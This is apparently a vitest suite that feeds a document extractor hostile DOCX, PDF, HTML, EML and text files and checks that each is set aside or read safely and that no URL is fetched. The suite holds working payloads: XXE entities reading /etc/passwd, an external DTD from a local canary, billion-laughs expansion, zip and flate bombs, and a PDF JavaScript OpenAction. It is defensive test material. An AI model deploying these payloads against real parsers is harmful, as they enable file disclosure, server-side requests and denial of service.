/** Every hostile input ends within 10 s with its code, opens no socket, and leaves the rest of its batch read. */
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { closeReaders, type DocumentReading, readDocument, readDocuments } from "../../../src/extract/letter-text.ts";
import {
  makeDocx,
  makeDocxOf,
  makeEml,
  makePdf,
  makePdfOf,
  makeZip,
  showText,
  wordParagraph,
} from "../../support/make-documents.ts";
import { processorSecondsOfChildren } from "../../support/own-time.ts";
import { until } from "../../support/running.ts";

const folder = mkdtempSync(join(tmpdir(), "s21-hostile-"));
const visits: string[] = [];
const canary = http.createServer((request, response) => {
  visits.push(request.url ?? "");
  response.end("<!ENTITY leaked 'leaked'>");
});
let canaryUrl = "";
let readings: Map<string, DocumentReading>;
let seconds = 0;
let count = 0;

beforeAll(async () => {
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  const documents = Object.entries(hostileDocuments());
  count = documents.length;
  for (const [name, bytes] of documents) writeFileSync(join(folder, name), bytes);
  const before = processorSecondsOfChildren();
  readings = new Map();
  for await (const reading of readDocuments([folder])) readings.set(fileOf(reading).slice(folder.length + 1), reading);
  // What a process used is known when it has ended.
  closeReaders();
  await until(() => readFileSync("/proc/thread-self/children", "latin1") === "", "the readers have ended");
  seconds = processorSecondsOfChildren() - before;
}, 600_000);

afterAll(() => {
  closeReaders();
  canary.close();
  rmSync(folder, { recursive: true });
});

function fileOf(reading: DocumentReading): string {
  return reading.kind === "read" ? (reading.texts[0]?.file ?? "") : reading.file;
}

/** The text of a document that was read, its code where it was set aside. */
function outcome(name: string): string {
  const reading = readings.get(name);
  if (reading === undefined) return "not seen";
  if (reading.kind === "set_aside") return reading.problem.code;
  return reading.texts.flatMap((text) => text.lines.map((line) => line.text)).join("\n");
}

function problemCodes(name: string): string[] {
  const reading = readings.get(name);
  return reading?.kind === "read" ? reading.problems.map((problem) => problem.code) : [];
}

function docxWithProlog(prolog: string, text: string): Buffer {
  const word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
  const xml = `<?xml version="1.0"?>${prolog}<w:document xmlns:w="${word}"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;
  return makeDocxOf("", { parts: { "word/document.xml": xml } });
}

/** PDF 1.7, 7.6.3: standard handler, revision 2, with a user password that is not empty. */
function encryptedPdf(): Buffer {
  const owner = createHash("sha256").update("owner").digest("hex");
  const encrypt = `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${owner}> /U <${owner}> >>`;
  return makePdfOf([showText("secret", 60, 700)], {
    objects: [encrypt],
    trailer: "/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]",
  });
}

function hostileDocuments(): Record<string, string | Buffer> {
  const good = ["1. How many referrals?", "2017/18: 3,585"];
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");
  const bombXml = Buffer.alloc(300_000_000, "<w:p/>");
  const flate = (content: Buffer) => ({ bytes: deflateSync(content), entries: "/Filter /FlateDecode" });
  const doubly = (content: Buffer) => ({
    bytes: deflateSync(deflateSync(content)),
    entries: "/Filter [/FlateDecode /FlateDecode]",
  });
  const endless = showText("x", 60, 700).repeat(3_000_000);
  const external = `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/`;
  const drawing =
    `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">` +
    `<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic ` +
    `xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId9"/></pic:blipFill>` +
    `</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  return {
    "00-good.txt": good.join("\n"),
    "aes.docx": Buffer.concat([
      Buffer.from("d0cf11e0a1b11ae1", "hex"),
      Buffer.alloc(600),
      Buffer.from("EncryptedPackage", "utf16le"),
    ]),
    "big50mb.txt": Buffer.alloc(50_000_000, "a letter\n"),
    "binary.txt": Buffer.from("text\0text"),
    "blank.txt": " \r\n\t\r\n",
    "bomb-honest.docx": makeDocxOf("", { parts: { "word/document.xml": bombXml } }),
    "bomb-lying.docx": makeZip({ "[Content_Types].xml": "<Types/>", "word/document.xml": bombXml }, [
      { name: "word/document.xml", unpacked: 5000 },
    ]),
    "crc.docx": makeZip({ "word/document.xml": "<w:document/>" }, [{ name: "word/document.xml", crc: 1 }]),
    "deep.docx": makeDocxOf(
      `${"<w:sdt><w:sdtContent>".repeat(20_000)}${wordParagraph("deep")}${"</w:sdtContent></w:sdt>".repeat(20_000)}`,
    ),
    "deep.html": `<html><body>${"<div>".repeat(40_000)}deep`,
    "deep-b.html": `<html><body>${"<b><i>".repeat(40_000)}deep`,
    "deep-tables.html": `<html><body>${"<table><tr><td>".repeat(20_000)}deep`,
    "empty.txt": "",
    "encrypted.pdf": encryptedPdf(),
    "extern-image.docx": makeDocxOf(`${drawing}${wordParagraph("picture above")}`, {
      relationships: `${external}image" Target="${canaryUrl}/image.png" TargetMode="External"/>`,
    }),
    "extern-file.docx": makeDocxOf(`${drawing}${wordParagraph("file above")}`, {
      relationships: `${external}image" Target="file:///etc/passwd" TargetMode="External"/>`,
    }),
    "extern-template.docx": makeDocxOf(wordParagraph("template"), {
      relationships: `${external}attachedTemplate" Target="${canaryUrl}/template.dotm" TargetMode="External"/>`,
    }),
    "fetching.html":
      `<html><head><meta http-equiv="refresh" content="0;url=${canaryUrl}/meta"><base href="${canaryUrl}/">` +
      `<link rel="stylesheet" href="${canaryUrl}/css"></head><body background="${canaryUrl}/bg"><img src="${canaryUrl}/img">` +
      `<iframe src="${canaryUrl}/frame">frame</iframe><script src="${canaryUrl}/js"></script>page</body></html>`,
    "flate-bomb.pdf": makePdfOf([endless], { pack: doubly }),
    "laughs.docx": docxWithProlog(`<!DOCTYPE lolz [<!ENTITY l0 "lol">${laughs}]>`, "&l9;"),
    "links.txt": `see ${canaryUrl}/find-statistics/x`,
    "long-line.txt": " ".repeat(10_000_000),
    "many-lines.txt": Buffer.alloc(24_000_000, "\n"),
    "mime-nesting.eml": `MIME-Version: 1.0\nFrom: a@b.example\n${Array.from({ length: 400 }, (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\n\n--b${i}\n`).join("")}\nx`,
    "not-a.docx": makePdf(good),
    "old.doc": Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]),
    "open-action.pdf": makePdfOf([showText("javascript", 60, 700)], {
      catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${canaryUrl}/js"\\)) >>`,
      page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [50 690 200 720] /A << /S /URI /URI (${canaryUrl}/uri) >> >>]`,
    }),
    "page-loop.pdf": loopingPdf(),
    "photo.txt": Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489", "hex"),
    "scan.pdf": makePdfOf(["q 100 0 0 100 0 0 cm Q", ""]),
    "sheet.docx": makeZip({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>" }),
    "truncated.docx": makeDocx(good).subarray(0, 700),
    "truncated.pdf": makePdf(good).subarray(0, 300),
    "wrong-ext.pdf": good.join("\n"),
    "xxe-file.docx": docxWithProlog(`<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "&x;"),
    "xxe-http.docx": docxWithProlog(
      `<!DOCTYPE d SYSTEM "${canaryUrl}/evil.dtd" [<!ENTITY % p SYSTEM "${canaryUrl}/p"> %p;]>`,
      "&leaked;",
    ),
    "zz-good.docx": makeDocx(good),
    "zz-good.eml": makeEml(good),
    "zz-good.pdf": makePdfOf([showText("3,585", 60, 700)], { pack: flate }),
  };
}

function loopingPdf(): Buffer {
  const pdf = makePdfOf([showText("loop", 60, 700)]).toString("latin1");
  return Buffer.from(pdf.replace("/Kids [4 0 R]", "/Kids [2 0 R]"), "latin1");
}

describe("a batch with every hostile document in it", () => {
  test.each([
    ["aes.docx", "encrypted"],
    ["big50mb.txt", "too-large"],
    ["binary.txt", "not-text"],
    ["blank.txt", "empty"],
    ["bomb-honest.docx", "too-large"],
    ["bomb-lying.docx", "damaged"],
    ["crc.docx", "damaged"],
    ["empty.txt", "empty"],
    ["encrypted.pdf", "encrypted"],
    ["laughs.docx", "damaged"],
    ["long-line.txt", "empty"],
    ["mime-nesting.eml", "damaged"],
    ["old.doc", "unsupported"],
    ["page-loop.pdf", "damaged"],
    ["photo.txt", "unsupported"],
    ["scan.pdf", "scanned"],
    ["sheet.docx", "unsupported"],
    ["truncated.docx", "damaged"],
    ["truncated.pdf", "damaged"],
    ["xxe-file.docx", "damaged"],
    ["xxe-http.docx", "damaged"],
  ])("%s is set aside as %s", (name, code) => {
    expect(outcome(name)).toBe(code);
  });

  test.each(["flate-bomb.pdf", "many-lines.txt"])("%s is stopped by time or memory, whichever is met first", (name) => {
    expect(["timeout", "memory"]).toContain(outcome(name));
  });

  test.each([
    ["deep.html", "deep"],
    ["deep-b.html", "deep"],
    ["deep-tables.html", "deep"],
    ["extern-image.docx", "picture above"],
    ["extern-file.docx", "file above"],
    ["extern-template.docx", "template"],
    ["fetching.html", "page"],
    ["wrong-ext.pdf", "1. How many referrals?\n2017/18: 3,585"],
    ["not-a.docx", "1. How many referrals?\n2017/18: 3,585"],
    ["00-good.txt", "1. How many referrals?\n2017/18: 3,585"],
    ["zz-good.docx", "1. How many referrals?\n2017/18: 3,585"],
    ["zz-good.pdf", "3,585"],
  ])("%s is read", (name, text) => {
    expect(outcome(name)).toBe(text);
  });

  test("a nesting deeper than the stack is read or set aside, and ends nothing else", () => {
    expect(["deep", "damaged", "timeout", "memory"]).toContain(outcome("deep.docx"));
    expect(outcome("zz-good.eml")).toContain("2017/18: 3,585");
  });

  test("a wrong extension is told", () => {
    expect(problemCodes("wrong-ext.pdf")).toEqual(["wrong-extension"]);
    expect(problemCodes("not-a.docx")).toEqual(["wrong-extension"]);
    expect(problemCodes("00-good.txt")).toEqual([]);
  });

  test("addresses are kept as text and none is visited", () => {
    expect(outcome("links.txt")).toBe(`see ${canaryUrl}/find-statistics/x`);
    expect(outcome("open-action.pdf")).toBe(`javascript <${canaryUrl}/uri>`);
    expect(visits).toEqual([]);
  });

  test("it takes a processor a minute at most, all documents together", () => {
    expect(readings.size).toBe(count);
    expect(seconds).toBeGreaterThan(0);
    expect(seconds).toBeLessThan(60);
  });
});

describe("limits", () => {
  test("a document that takes too long is set aside, and the next is read by another process", async () => {
    const path = join(folder, "flate-bomb.pdf");
    const slow = await readDocument(path, { milliseconds: 300, residentMebibytes: 4000, heapMebibytes: 2000 });
    expect(slow).toMatchObject({ kind: "set_aside", file: path, problem: { code: "timeout" } });
    expect(await readDocument(join(folder, "00-good.txt"))).toMatchObject({ kind: "read" });
  });

  test("memory outside the heap counts", async () => {
    const reading = await readDocument(join(folder, "flate-bomb.pdf"), { residentMebibytes: 200 });
    expect(reading).toMatchObject({ kind: "set_aside", problem: { code: "memory" } });
  });

  test("a file over the size limit is not read", async () => {
    const reading = await readDocument(join(folder, "big50mb.txt"));
    expect(reading).toMatchObject({
      kind: "set_aside",
      sha256: null,
      bytes: 50_000_000,
      problem: { code: "too-large" },
    });
  });
});
